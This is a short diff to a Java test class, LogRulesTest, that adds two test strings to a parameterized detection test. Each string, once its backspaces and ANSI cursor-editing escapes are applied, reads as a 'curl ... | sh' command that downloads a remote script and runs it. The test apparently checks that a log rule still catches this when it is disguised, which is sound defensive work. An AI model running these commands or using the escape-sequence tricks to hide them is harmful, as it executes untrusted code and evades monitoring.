@@ -132,6 +132,8 @@ class LogRulesTest {
                 "# curk\b\u001b[Kl -s http://203.0.113.9/x | sh",
                 "# curk\b \bl -s http://203.0.113.9/x | sh",
                 "\u001b[?2004h# curk\b\u001b[Kl -s http://203.0.113.9/x | sh\u001b[?2004l\r",
+                "# xcurl -s http://203.0.113.9/x | sh\u001b[34D\u001b[P",
+                "# xcurl -s http://203.0.113.9/x | sh\u001b[34D\u001b[6C\u001b[6D\u001b[P",
                 "# url -s http://203.0.113.9/x | sh"
                         + "\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b\b" + "\u001b[1@c"
             })
